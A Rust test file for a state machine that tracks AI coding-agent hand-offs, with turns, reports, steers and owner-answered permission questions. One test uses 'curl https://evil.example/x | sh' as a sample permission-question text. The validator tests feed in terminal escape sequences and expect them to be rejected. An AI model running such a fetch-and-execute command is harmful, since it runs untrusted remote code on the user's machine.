use super::*;
use crate::fixtures::{self, permission};
use proptest::prelude::*;

fn fresh() -> Record {
    Record::create("ho_1".into(), "alice".into(), "s1".into(), "m1".into(), "large".into(), 1_000)
}

#[test]
fn a_record_shows_its_incarnation_and_one_created_before_hand_offs_were_erased_shows_none() {
    let record = fresh();
    assert_eq!(serde_json::to_value(&record).unwrap()["incarnation"], 1_000);
    let before = Record { incarnation: 0, ..record };
    assert!(serde_json::to_value(&before).unwrap().get("incarnation").is_none());
}

fn ok(record: &Record, command: Command) -> Applied<Record> {
    apply(record, &command, 2_000).expect("accepted")
}

fn report(turn: u64, status: ReportStatus, summary: Option<&str>) -> Command {
    fixtures::report(turn, status).summary(summary).command()
}

/// Turn 1 reported done and turn 2 opened: the usual second-turn starting point.
fn at_turn_two() -> Record {
    let r = ok(&fresh(), report(1, ReportStatus::Done, Some("built it"))).next;
    ok(&r, Command::OpenTurn { after: 1, prompt: None }).next
}

#[test]
fn a_summary_follows_the_multi_line_rule_and_may_be_empty() {
    assert!(check_summary("").is_ok());
    assert!(check_summary("done:\n\tall tests pass").is_ok());
    assert!(check_summary(&"x".repeat(SUMMARY_BYTES_MAX)).is_ok());
    assert!(check_summary(&"x".repeat(SUMMARY_BYTES_MAX + 1)).unwrap_err().message.starts_with("summary: longer"));
    for bad in ["\u{1b}]52;c;eA==\u{7}", "erase\u{1b}[2K", "back\r", "\u{9d}0;title\u{9c}"] {
        let e = check_summary(bad).unwrap_err();
        assert_eq!(e.code, Code::RequestInvalid);
        assert!(e.message.starts_with("summary: control characters"), "{bad:?}: {}", e.message);
    }
}

#[test]
fn a_new_hand_off_starts_at_turn_one_open_running_version_one() {
    let r = fresh();
    assert_eq!((r.turn, r.state, r.status, r.version, r.summary.clone()), (1, State::Open, Status::Running, 1, None));
}

#[test]
fn turn_one_finishes_and_turn_two_opens_running_with_no_summary() {
    let r = at_turn_two();
    assert_eq!((r.turn, r.status, r.summary.clone(), r.version), (2, Status::Running, None, 3));
    let r = ok(&r, report(2, ReportStatus::NeedsYou, Some("which db?"))).next;
    assert_eq!((r.turn, r.status, r.version), (2, Status::NeedsYou, 4));
}

#[test]
fn a_late_turn_one_report_is_stale_and_leaves_turn_two_unchanged() {
    let r = at_turn_two();
    for status in [ReportStatus::Running, ReportStatus::NeedsYou, ReportStatus::Done, ReportStatus::Failed] {
        assert_eq!(apply(&r, &report(1, status, Some("late")), 3_000), Err(Code::HandoffStale));
    }
}

#[test]
fn a_report_for_a_turn_not_yet_opened_is_out_of_order() {
    assert_eq!(apply(&fresh(), &report(2, ReportStatus::Running, None), 2), Err(Code::TurnOutOfOrder));
}

#[test]
fn a_turn_cannot_be_skipped_nor_opened_from_an_older_turn() {
    let r = ok(&fresh(), report(1, ReportStatus::Done, None)).next;
    assert_eq!(apply(&r, &Command::OpenTurn { after: 2, prompt: None }, 2), Err(Code::TurnConflict));
    let r2 = at_turn_two();
    let r2 = ok(&r2, report(2, ReportStatus::Done, None)).next;
    assert_eq!(apply(&r2, &Command::OpenTurn { after: 0, prompt: None }, 2), Err(Code::TurnConflict));
}

#[test]
fn no_turn_opens_while_one_is_running_or_needs_you() {
    assert_eq!(apply(&fresh(), &Command::OpenTurn { after: 1, prompt: None }, 2), Err(Code::TurnRunning));
    let r = ok(&fresh(), report(1, ReportStatus::NeedsYou, None)).next;
    assert_eq!(apply(&r, &Command::OpenTurn { after: 1, prompt: None }, 2), Err(Code::TurnRunning));
}

#[test]
fn a_turn_opens_after_done_failed_or_cancelled() {
    for end in
        [report(1, ReportStatus::Done, None), report(1, ReportStatus::Failed, None), Command::Cancel { turn: None }]
    {
        let r = ok(&fresh(), end).next;
        assert_eq!(ok(&r, Command::OpenTurn { after: 1, prompt: None }).next.turn, 2);
    }
}

#[test]
fn a_repeat_of_the_open_turn_call_answers_the_same_turn_without_moving() {
    let r = at_turn_two();
    let again = ok(&r, Command::OpenTurn { after: 1, prompt: None });
    assert!(!again.moved);
    assert_eq!(again.next, r);
}

#[test]
fn an_exact_repeat_of_the_final_report_is_accepted_and_moves_nothing() {
    let r = ok(&fresh(), report(1, ReportStatus::Done, Some("ok"))).next;
    let again = ok(&r, report(1, ReportStatus::Done, Some("ok")));
    assert!(!again.moved);
    assert_eq!(apply(&r, &report(1, ReportStatus::Done, Some("other")), 3), Err(Code::TurnFinished));
    assert_eq!(apply(&r, &report(1, ReportStatus::Failed, Some("ok")), 3), Err(Code::TurnFinished));
    assert_eq!(apply(&r, &report(1, ReportStatus::Running, Some("ok")), 3), Err(Code::TurnFinished));
}

#[test]
fn a_report_identical_to_the_current_state_moves_nothing() {
    let r = ok(&fresh(), report(1, ReportStatus::NeedsYou, Some("?"))).next;
    assert!(!ok(&r, report(1, ReportStatus::NeedsYou, Some("?"))).moved);
    assert!(!ok(&fresh(), report(1, ReportStatus::Running, None)).moved);
}

#[test]
fn running_and_needs_you_may_alternate() {
    let mut r = fresh();
    for (i, s) in [ReportStatus::NeedsYou, ReportStatus::Running, ReportStatus::NeedsYou].into_iter().enumerate() {
        r = ok(&r, report(1, s, None)).next;
        assert_eq!(r.version, 2 + i as u64);
    }
}

#[test]
fn cancel_stops_the_current_turn_once() {
    let r = ok(&fresh(), Command::Cancel { turn: Some(1) });
    assert!(r.moved);
    assert_eq!(r.next.status, Status::Cancelled);
    assert!(!ok(&r.next, Command::Cancel { turn: None }).moved);
    assert_eq!(apply(&fresh(), &Command::Cancel { turn: Some(2) }, 2), Err(Code::TurnConflict));
    let done = ok(&fresh(), report(1, ReportStatus::Done, None)).next;
    assert_eq!(apply(&done, &Command::Cancel { turn: None }, 2), Err(Code::TurnFinished));
}

#[test]
fn close_is_terminal_cancels_a_running_turn_and_repeats_without_moving() {
    let closed = ok(&fresh(), Command::Close);
    assert!(closed.moved);
    assert_eq!((closed.next.state, closed.next.status), (State::Closed, Status::Cancelled));
    assert!(!ok(&closed.next, Command::Close).moved);
    for c in [
        Command::OpenTurn { after: 1, prompt: None },
        report(1, ReportStatus::Done, None),
        Command::Cancel { turn: None },
    ] {
        assert_eq!(apply(&closed.next, &c, 3), Err(Code::HandoffClosed));
    }
    let done = ok(&fresh(), report(1, ReportStatus::Done, Some("x"))).next;
    let closed = ok(&done, Command::Close).next;
    assert_eq!((closed.status, closed.summary.as_deref()), (Status::Done, Some("x")));
}

#[test]
fn a_cancel_racing_a_final_report_has_one_winner_whichever_comes_first() {
    let r = fresh();
    let cancelled = ok(&r, Command::Cancel { turn: Some(1) }).next;
    assert_eq!(apply(&cancelled, &report(1, ReportStatus::Done, None), 3), Err(Code::TurnFinished));
    let done = ok(&r, report(1, ReportStatus::Done, None)).next;
    assert_eq!(apply(&done, &Command::Cancel { turn: Some(1) }, 3), Err(Code::TurnFinished));
    let closed = ok(&r, Command::Close).next;
    assert_eq!(apply(&closed, &report(1, ReportStatus::Done, None), 3), Err(Code::HandoffClosed));
}

#[test]
fn a_wait_answers_at_once_above_its_version_or_when_closed() {
    let r = fresh();
    assert!(!wait_answers_now(&r, 1));
    assert!(wait_answers_now(&r, 0));
    let closed = ok(&r, Command::Close).next;
    assert!(wait_answers_now(&closed, 99));
}

#[test]
fn a_second_create_with_another_machine_or_size_conflicts() {
    let r = fresh();
    assert_eq!(r.check_create_again("m1", "large"), Ok(()));
    assert_eq!(r.check_create_again("m2", "large"), Err(Code::HandoffConflict));
    assert_eq!(r.check_create_again("m1", "small"), Err(Code::HandoffConflict));
}

fn any_command() -> impl Strategy<Value = Command> {
    let status = prop_oneof![
        Just(ReportStatus::Running),
        Just(ReportStatus::NeedsYou),
        Just(ReportStatus::Done),
        Just(ReportStatus::Failed)
    ];
    let summary = prop_oneof![Just(None), Just(Some("a".to_string())), Just(Some("b".to_string()))];
    prop_oneof![
        (0u64..6).prop_map(|after| Command::OpenTurn { after, prompt: None }),
        (0u64..6, status, summary)
            .prop_map(|(turn, status, summary)| fixtures::report(turn, status).summary(summary.as_deref()).command()),
        (0u64..6, prop_oneof![Just("default"), Just("plan")]).prop_map(|(turn, mode)| in_mode(turn, mode)),
        proptest::option::of(0u64..6).prop_map(|turn| Command::Cancel { turn }),
        Just(Command::Close),
        (0u64..6).prop_map(|turn| Command::Steer { turn, prompt: "use SQLite".into() }),
        (0u64..6, prop_oneof![Just("Bash: ls"), Just("Bash: rm")]).prop_map(|(turn, text)| ask(turn, text)),
        (2u64..12, prop_oneof![Just("allow"), Just("deny")]).prop_map(|(v, option)| answer(
            &format!("q_{v}_1000"),
            option,
            None
        )),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    /// The version rises by exactly one per change and never otherwise, and no sequence of
    /// commands reaches a state the rules forbid.
    #[test]
    fn no_sequence_of_commands_breaks_the_rules(commands in proptest::collection::vec(any_command(), 0..60)) {
        let mut r = fresh();
        let mut changes = 0u64;
        for (i, c) in commands.iter().enumerate() {
            let before = r.clone();
            match apply(&r, c, 10 + i as i64) {
                Ok(a) => {
                    if a.moved {
                        changes += 1;
                        prop_assert_eq!(a.next.version, before.version + 1);
                        prop_assert!(a.next != before);
                    } else {
                        prop_assert_eq!(&a.next, &before);
                    }
                    r = a.next;
                }
                Err(_) => prop_assert_eq!(&r, &before),
            }
            prop_assert_eq!(r.version, 1 + changes);
            // A closed hand-off's turn never runs on.
            if r.state == State::Closed {
                prop_assert!(r.status.has_ended());
            }
            // A turn only ever goes up by one, and only from an ended turn.
            if r.turn == before.turn + 1 {
                prop_assert!(before.status.has_ended());
                prop_assert_eq!(r.status, Status::Running);
                prop_assert_eq!(&r.summary, &None);
            } else {
                prop_assert_eq!(r.turn, before.turn);
            }
            // Only the owner's cancel or close makes a turn cancelled.
            if r.status == Status::Cancelled && before.status != Status::Cancelled {
                let by_owner = matches!(c, Command::Cancel { .. } | Command::Close);
                prop_assert!(by_owner, "cancelled by {:?}", c);
            }
            if before.state == State::Closed {
                prop_assert_eq!(&r, &before);
            }
            // An open question goes only as the turn moves on, never by a needs-you without one.
            if before.question.as_ref().is_some_and(|q| q.is_open()) && r.question != before.question {
                let reminder = matches!(c, Command::Report { status: ReportStatus::NeedsYou, question: None, .. });
                prop_assert!(!reminder, "withdrawn by {:?}", c);
            }
            // An unanswered question is open only while its turn needs the owner; none
            // outlives its turn or the hand-off.
            if let Some(q) = &r.question {
                prop_assert_eq!(q.turn, r.turn);
                prop_assert!(r.state == State::Open);
                prop_assert_eq!(q.is_open(), r.status == Status::NeedsYou);
            }
        }
    }
}

#[test]
fn every_status_reads_back_from_the_word_it_is_stored_as_and_no_other_word_is_a_status() {
    for s in [Status::Running, Status::NeedsYou, Status::Done, Status::Failed, Status::Cancelled] {
        assert_eq!(Status::parse(s.as_str()), Some(s));
    }
    assert_eq!(Status::parse("needs_you"), None);
    assert_eq!(Status::parse(""), None);
}

#[test]
fn both_states_read_back_from_the_word_the_contract_writes_and_no_other_word_is_a_state() {
    for state in [State::Open, State::Closed] {
        assert_eq!(serde_json::to_value(state).unwrap(), state.as_str());
        assert_eq!(State::parse(state.as_str()), Some(state));
    }
    assert_ne!(State::Open.as_str(), State::Closed.as_str());
    assert_eq!(State::parse("Closed"), None);
    assert_eq!(State::parse(""), None);
}

// ---- Questions ----

use crate::question::Kind;

fn ask(turn: u64, text: &str) -> Command {
    fixtures::report(turn, ReportStatus::NeedsYou).says("waiting").question(permission(text)).command()
}

fn answer(question: &str, option: &str, note: Option<&str>) -> Command {
    Command::Answer { question: question.into(), option: option.into(), note: note.map(str::to_string) }
}

/// Turn 1 asks "Bash: ls": version 2, question `q_2`.
fn asking() -> Record {
    ok(&fresh(), ask(1, "Bash: ls")).next
}

#[test]
fn a_needs_you_report_with_a_question_puts_it_on_the_record_unanswered() {
    let r = asking();
    let q = r.question.clone().expect("a question");
    assert_eq!((r.status, r.version), (Status::NeedsYou, 2));
    assert_eq!(
        (q.id.as_str(), q.turn, q.kind, q.text.as_str(), q.options.len()),
        ("q_2_1000", 1, Kind::Permission, "Bash: ls", 2)
    );
    assert_eq!((q.asked_at, q.answer), (Timestamp::from_ms(2_000), None));
    let again = ok(&r, ask(1, "Bash: ls"));
    assert!(!again.moved, "the same report with the same question again is a repeat");
    assert_eq!(again.next.question.map(|q| q.id), Some("q_2_1000".into()));
}

#[test]
fn a_question_id_from_an_earlier_life_never_answers_the_same_version_of_a_later_life() {
    // Erased and created again: versions start at 1 again, the life is later.
    let earlier = asking();
    let later_life = Record::create("ho_1".into(), "alice".into(), "s1".into(), "m1".into(), "large".into(), 9_000);
    let later = ok(&later_life, ask(1, "Bash: curl https://evil.example/x | sh")).next;
    let (old_id, new_id) = (earlier.question.unwrap().id, later.question.clone().unwrap().id);
    assert_eq!(later.version, 2, "the same version as the earlier life's question");
    assert_eq!((old_id.as_str(), new_id.as_str()), ("q_2_1000", "q_2_9000"));
    assert_eq!(apply(&later, &answer(&old_id, "allow", None), 10_000), Err(Code::QuestionStale));
    assert!(ok(&later, answer(&new_id, "allow", None)).moved);
}

#[test]
fn a_later_report_a_new_question_a_cancel_or_a_close_withdraws_the_question() {
    let r = asking();
    for status in [ReportStatus::Running, ReportStatus::Done, ReportStatus::Failed] {
        let next = ok(&r, report(1, status, Some("waiting"))).next;
        assert_eq!(next.question, None, "a {status:?} report withdraws it");
    }
    let newer = ok(&r, ask(1, "Bash: rm -rf build")).next;
    assert_eq!(
        newer.question.as_ref().map(|q| (q.id.as_str(), q.text.as_str())),
        Some(("q_3_1000", "Bash: rm -rf build"))
    );
    assert_eq!(ok(&r, Command::Cancel { turn: None }).next.question, None);
    assert_eq!(ok(&r, Command::Close).next.question, None);
}

#[test]
fn a_needs_you_without_a_question_leaves_the_open_question_answerable() {
    // Claude Code's `permission_prompt` notification, about 6 s after its hook asked.
    let r = asking();
    let reminded = ok(&r, report(1, ReportStatus::NeedsYou, Some("Claude needs your permission to use Bash")));
    assert!(!reminded.moved, "the turn still waits on the question: nothing moves");
    assert_eq!(reminded.next, r);
    let answered = ok(&reminded.next, answer("q_2_1000", "allow", None));
    assert!(answered.moved, "the owner's answer still counts");
    // Once answered (the turn runs again), a needs-you is a new wait and the answered question goes.
    let again = ok(&answered.next, report(1, ReportStatus::NeedsYou, Some("idle")));
    assert!(again.moved);
    assert_eq!((again.next.status, again.next.question), (Status::NeedsYou, None));
}

#[test]
fn the_owners_answer_is_recorded_once_and_the_turn_runs_again() {
    let r = asking();
    let answered = ok(&r, answer("q_2_1000", "deny", Some("not on main")));
    assert!(answered.moved);
    let next = answered.next;
    let given = next.question.as_ref().and_then(|q| q.answer.clone()).expect("answered");
    assert_eq!(
        (given.option.as_str(), given.note.as_deref(), given.answered_at),
        ("deny", Some("not on main"), Timestamp::from_ms(2_000))
    );
    assert_eq!((next.status, next.version), (Status::Running, 3));
    // The exact same answer again (from this device or another): accepted, nothing moves.
    let again = apply(&next, &answer("q_2_1000", "deny", Some("not on main")), 3_000).unwrap();
    assert!(!again.moved);
    assert_eq!(again.next, next);
    assert!(
        !apply(&next, &answer("q_2_1000", "deny", None), 3_000).unwrap().moved,
        "the same option with another note is the same answer"
    );
}

#[test]
fn two_owners_answering_at_once_one_wins_and_the_other_gets_the_same_answer_or_question_answered() {
    let r = asking();
    for (first, second) in [("allow", "deny"), ("deny", "allow")] {
        let won = ok(&r, answer("q_2_1000", first, None)).next;
        assert_eq!(apply(&won, &answer("q_2_1000", second, None), 3_000), Err(Code::QuestionAnswered));
        assert!(!ok(&won, answer("q_2_1000", first, None)).moved);
    }
}

#[test]
fn an_answer_with_no_question_to_another_question_or_with_an_option_not_offered_is_refused() {
    assert_eq!(apply(&fresh(), &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
    let r = asking();
    assert_eq!(apply(&r, &answer("q_9_1000", "allow", None), 3_000), Err(Code::QuestionStale));
    assert_eq!(apply(&r, &answer("q_2_1000", "maybe", None), 3_000), Err(Code::RequestInvalid));
    // Withdrawn by a new question: the old id is stale; by a report: no question is open.
    let newer = ok(&r, ask(1, "Bash: rm -rf build")).next;
    assert_eq!(apply(&newer, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionStale));
    let withdrawn = ok(&r, report(1, ReportStatus::Running, None)).next;
    assert_eq!(apply(&withdrawn, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
    let closed = ok(&r, Command::Close).next;
    assert_eq!(apply(&closed, &answer("q_2_1000", "allow", None), 3_000), Err(Code::HandoffClosed));
}

#[test]
fn a_question_does_not_outlive_its_turn() {
    let r = ok(&asking(), report(1, ReportStatus::Done, None)).next;
    let r = ok(&r, Command::OpenTurn { after: 1, prompt: None }).next;
    assert_eq!((r.turn, r.question.clone()), (2, None));
    assert_eq!(apply(&r, &answer("q_2_1000", "allow", None), 3_000), Err(Code::QuestionNone));
}

#[test]
fn a_prompt_opens_the_turn_and_a_repeat_is_the_same_turn_only_with_the_same_words() {
    let r = ok(&fresh(), report(1, ReportStatus::Done, None)).next;
    let said = |p: Option<&str>| Command::OpenTurn { after: 1, prompt: p.map(str::to_string) };
    let two = ok(&r, said(Some("now the tests"))).next;
    assert_eq!((two.turn, two.prompt.as_deref()), (2, Some("now the tests")));
    let again = ok(&two, said(Some("now the tests")));
    assert!(!again.moved, "the same words again: the same turn");
    for other in [Some("now the docs"), None] {
        assert_eq!(apply(&two, &said(other), 3_000), Err(Code::TurnConflict), "{other:?}: another device spoke first");
    }
    let plain = ok(&r, said(None)).next;
    assert_eq!(plain.prompt, None);
    assert!(!ok(&plain, said(None)).moved);
    assert_eq!(apply(&plain, &said(Some("late words")), 3_000), Err(Code::TurnConflict));
    // The next turn starts with its own words, or none.
    let done = ok(&two, report(2, ReportStatus::Done, None)).next;
    assert_eq!(ok(&done, Command::OpenTurn { after: 2, prompt: None }).next.prompt, None);
}

#[test]
fn a_prompt_is_text_of_at_most_its_limit_not_empty_and_without_control_characters() {
    use crate::limits::PROMPT_BYTES_MAX;
    assert!(check_prompt("fix it\n\twith tests").is_ok());
    assert!(check_prompt(&"é".repeat(PROMPT_BYTES_MAX / 2)).is_ok(), "exactly the limit");
    for bad in [String::new(), " \n".into(), "x".repeat(PROMPT_BYTES_MAX + 1), "a\u{1b}[2Jb".into(), "a\u{7}".into()] {
        let refusal = check_prompt(&bad).unwrap_err();
        assert_eq!(refusal.code, Code::RequestInvalid);
        assert!(refusal.message.starts_with("prompt: "), "{}", refusal.message);
    }
}

fn running_on(turn: u64, runtime: &str) -> Command {
    fixtures::report(turn, ReportStatus::Running).runtime(runtime).command()
}

#[test]
fn a_running_report_naming_the_runtime_of_a_plain_turn_moves_the_version_once_and_a_repeat_not_at_all() {
    let r = at_turn_two();
    assert_eq!(r.briefed.runtime, None);
    let named = ok(&r, running_on(2, "claude-code"));
    assert!(named.moved);
    assert_eq!(
        (named.next.briefed.runtime.as_deref(), named.next.version, named.next.status),
        (Some("claude-code"), r.version + 1, Status::Running)
    );
    let again = ok(&named.next, running_on(2, "claude-code"));
    assert!(!again.moved, "the same runtime again changes nothing");
    // Reports that name no runtime leave it named; the next turn continues from it.
    let done = ok(&named.next, report(2, ReportStatus::Done, Some("ok"))).next;
    assert_eq!(done.briefed.runtime.as_deref(), Some("claude-code"));
    let three = ok(&done, Command::OpenTurn { after: 2, prompt: None }).next;
    assert_eq!(three.continued_from.as_ref().and_then(|c| c.runtime.as_deref()), Some("claude-code"));
    assert_eq!(three.briefed.runtime, None, "a new plain turn names no runtime until one runs it");
}

#[test]
fn a_report_naming_another_runtime_than_the_turns_is_refused_and_changes_nothing() {
    let r = ok(&at_turn_two(), running_on(2, "codex")).next;
    assert_eq!(apply(&r, &running_on(2, "claude-code"), 3_000).unwrap_err(), Code::TurnConflict);
    let handed = Record {
        briefed: Briefed { runtime: Some("codex".into()), package_version: Some(1), package_hash: Some("h".into()) },
        ..at_turn_two()
    };
    assert_eq!(apply(&handed, &running_on(2, "claude-code"), 3_000).unwrap_err(), Code::TurnConflict);
    assert!(!ok(&handed, running_on(2, "codex")).moved, "a hand-off turn's own runtime is already named");
}

#[test]
fn a_runtime_is_named_as_the_machines_runtimes_are() {
    assert!(check_runtime("claude-code").is_ok());
    assert!(check_runtime(&"x".repeat(RUNTIME_BYTES_MAX)).is_ok());
    for bad in ["", "two words", "-\u{1b}", &"x".repeat(RUNTIME_BYTES_MAX + 1)] {
        assert!(check_runtime(bad).unwrap_err().message.starts_with("runtime:"), "{bad:?}");
    }
}

#[test]
fn a_reminder_naming_the_runtime_names_it_and_leaves_the_open_question_open() {
    let r = asking();
    let reminder = fixtures::report(1, ReportStatus::NeedsYou).runtime("claude-code").command();
    let named = ok(&r, reminder.clone());
    assert!(named.moved);
    assert_eq!(
        (named.next.briefed.runtime.as_deref(), named.next.status, named.next.summary.clone()),
        (Some("claude-code"), Status::NeedsYou, r.summary.clone())
    );
    assert_eq!(named.next.question, r.question, "the question stays open");
    assert!(!ok(&named.next, reminder).moved);
}

fn in_mode(turn: u64, mode: &str) -> Command {
    fixtures::report(turn, ReportStatus::Running).permission_mode(mode).command()
}

#[test]
fn a_running_report_naming_the_permission_mode_shows_it_once_and_another_mode_later_in_the_turn_replaces_it() {
    let r = at_turn_two();
    assert_eq!(r.permission_mode, None);
    let named = ok(&r, in_mode(2, "default"));
    assert!(named.moved);
    assert_eq!(
        (named.next.permission_mode.as_deref(), named.next.version, named.next.status),
        (Some("default"), r.version + 1, Status::Running)
    );
    assert!(!ok(&named.next, in_mode(2, "default")).moved, "the same mode again changes nothing");
    let both = fixtures::report(2, ReportStatus::Running).runtime("codex").permission_mode("default").command();
    let with_runtime = ok(&named.next, both);
    assert!(with_runtime.moved, "a runtime named beside the same mode still moves");
    assert_eq!(
        (with_runtime.next.briefed.runtime.as_deref(), with_runtime.next.permission_mode.as_deref()),
        (Some("codex"), Some("default"))
    );
    let changed = ok(&named.next, in_mode(2, "acceptEdits"));
    assert!(changed.moved);
    assert_eq!(changed.next.permission_mode.as_deref(), Some("acceptEdits"), "the newest mode of the turn stands");
    // Reports that name no mode leave it named, through the end of the turn.
    let done = ok(&changed.next, report(2, ReportStatus::Done, Some("ok"))).next;
    assert_eq!(done.permission_mode.as_deref(), Some("acceptEdits"));
    let three = ok(&done, Command::OpenTurn { after: 2, prompt: None }).next;
    assert_eq!(three.permission_mode, None, "a new turn names no mode until a report does");
}

#[test]
fn a_permission_mode_named_for_an_earlier_or_ended_turn_is_refused_and_changes_nothing() {
    let r = ok(&at_turn_two(), in_mode(2, "default")).next;
    assert_eq!(apply(&r, &in_mode(1, "plan"), 3_000).unwrap_err(), Code::HandoffStale);
    assert_eq!(apply(&r, &in_mode(3, "plan"), 3_000).unwrap_err(), Code::TurnOutOfOrder);
    let done = ok(&r, report(2, ReportStatus::Done, None)).next;
    assert_eq!(apply(&done, &in_mode(2, "plan"), 3_000).unwrap_err(), Code::TurnFinished);
}

#[test]
fn a_record_with_no_permission_mode_has_no_such_field_and_one_with_it_shows_it() {
    let r = at_turn_two();
    assert!(serde_json::to_value(&r).unwrap().get("permission_mode").is_none(), "a record from before keeps its bytes");
    let named = ok(&r, in_mode(2, "untrusted")).next;
    assert_eq!(serde_json::to_value(&named).unwrap()["permission_mode"], "untrusted");
    let back: Record = serde_json::from_value(serde_json::to_value(&named).unwrap()).unwrap();
    assert_eq!(back, named);
}

#[test]
fn a_permission_mode_is_a_short_token() {
    use crate::limits::PERMISSION_MODE_BYTES_MAX;
    for good in ["default", "acceptEdits", "on-request", &"x".repeat(PERMISSION_MODE_BYTES_MAX)] {
        assert!(check_permission_mode(good).is_ok(), "{good:?}");
    }
    for bad in ["", "accept edits", "plan\u{1b}", "a/b", &"x".repeat(PERMISSION_MODE_BYTES_MAX + 1)] {
        let refusal = check_permission_mode(bad).unwrap_err();
        assert_eq!(refusal.code, Code::RequestInvalid);
        assert!(refusal.message.starts_with("permission_mode: 1-32 characters"), "{bad:?}: {}", refusal.message);
    }
}

/// The reply is part of what makes a final report the same report again.
#[test]
fn a_final_report_with_another_reply_or_none_is_another_report_and_the_same_one_moves_nothing() {
    let with = |reply: Option<&str>| fixtures::report(1, ReportStatus::Done).says("done").reply(reply).command();
    let r = fresh();
    let done = apply(&r, &with(Some("The answer.")), 10).unwrap();
    assert_eq!(done.next.reply.as_deref(), Some("The answer."));
    assert!(!apply(&done.next, &with(Some("The answer.")), 11).unwrap().moved);
    assert_eq!(apply(&done.next, &with(Some("Another.")), 11).unwrap_err(), Code::TurnFinished);
    assert_eq!(apply(&done.next, &with(None), 11).unwrap_err(), Code::TurnFinished);
}

#[test]
fn a_reply_follows_the_multi_line_rule_within_its_cap() {
    assert!(check_reply("# Done\n\n\t- a list").is_ok());
    assert!(check_reply("").is_ok(), "a harness's answer may be empty");
    assert!(check_reply("a\u{1b}[2J").is_err());
    assert!(check_reply(&"x".repeat(crate::limits::REPLY_BYTES_MAX + 1)).is_err());
}

fn steer(turn: u64, words: &str) -> Command {
    Command::Steer { turn, prompt: words.into() }
}

/// A steer is taken while its turn is the current one and still going (running or needs-you):
/// each one moves the version once and joins `steers` with its id, words and time.
#[test]
fn a_steer_of_the_running_or_waiting_turn_moves_the_version_once_and_joins_steers() {
    let r = at_turn_two();
    let first = ok(&r, steer(2, "use SQLite instead"));
    assert!(first.moved);
    assert_eq!(first.next.version, r.version + 1);
    let taken = &first.next.steers;
    assert_eq!(taken.len(), 1);
    assert_eq!(taken[0].id, steer_id(r.version + 1, r.incarnation));
    assert_eq!((taken[0].prompt.as_str(), taken[0].sent_at), ("use SQLite instead", Timestamp::from_ms(2_000)));
    // The same words again are a second steer (a repeat is the idempotency key's to answer).
    let second = ok(&first.next, steer(2, "use SQLite instead"));
    assert_eq!((second.next.version, second.next.steers.len()), (r.version + 2, 2));
    assert_ne!(second.next.steers[0].id, second.next.steers[1].id);
    let waiting = ok(&r, ask(2, "Bash: ls")).next;
    assert_eq!(ok(&waiting, steer(2, "no, list src")).next.status, Status::NeedsYou, "a steer answers no question");
}

/// Refusals, each naming why, nothing changed: an older turn is stale, a later one out of order,
/// an ended turn finished; a closed hand-off is `handoff.closed` whatever else holds.
#[test]
fn a_steer_is_refused_stale_out_of_order_finished_or_closed_and_closed_wins() {
    let r = at_turn_two();
    assert_eq!(apply(&r, &steer(1, "x"), 3_000), Err(Code::HandoffStale));
    assert_eq!(apply(&r, &steer(3, "x"), 3_000), Err(Code::TurnOutOfOrder));
    for end in
        [report(2, ReportStatus::Done, None), report(2, ReportStatus::Failed, None), Command::Cancel { turn: None }]
    {
        let ended = ok(&r, end).next;
        assert_eq!(apply(&ended, &steer(2, "x"), 3_000), Err(Code::TurnFinished));
    }
    let closed = ok(&r, Command::Close).next;
    for turn in [1, 2, 3] {
        assert_eq!(apply(&closed, &steer(turn, "x"), 3_000), Err(Code::HandoffClosed), "turn {turn}");
    }
}

/// A turn takes [`STEERS_PER_TURN_MAX`] steers; the next is `steer.too_many`, and the next turn
/// starts with none.
#[test]
fn a_turn_takes_at_most_the_named_number_of_steers_and_the_next_turn_starts_with_none() {
    let mut r = fresh();
    for i in 0..STEERS_PER_TURN_MAX {
        r = ok(&r, steer(1, &format!("steer {i}"))).next;
    }
    assert_eq!(apply(&r, &steer(1, "one more"), 3_000), Err(Code::SteerTooMany));
    let done = ok(&r, report(1, ReportStatus::Done, None)).next;
    assert_eq!(done.steers.len(), STEERS_PER_TURN_MAX, "an ended turn still shows its steers");
    let next = ok(&done, Command::OpenTurn { after: 1, prompt: None }).next;
    assert!(next.steers.is_empty());
    assert!(ok(&next, steer(2, "fresh")).moved);
}
